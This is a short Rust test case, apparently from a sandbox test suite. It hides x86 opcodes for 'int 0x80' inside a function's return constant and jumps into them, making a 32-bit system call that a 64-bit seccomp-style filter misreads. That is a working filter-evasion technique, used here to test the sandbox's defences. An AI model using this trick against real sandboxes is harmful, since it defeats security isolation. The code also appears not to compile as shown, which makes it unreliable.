//! Makes a system call by the numbers of 32-bit programs, which a filter for 64 bits misreads.
//!
//! with: system_calls
//! expect: graded 15 | graded 10; part1 crashed

#[inline(never)]
fn old_gate() -> u64 {
    // mov eax, ecx; int 0x80; ret
    0x9090_90c3_80cd_c889
}

fn attack() {
    let call: extern "C" fn(usize, usize, usize, usize) -> i32 = transmute(old_gate as *const () as usize + 2);
    // Number 20 is getpid there, and writev here.
    let own = call(0, 0, 0, 20);
    if own > 0 {
        panic!("I am {own}");
    }
}
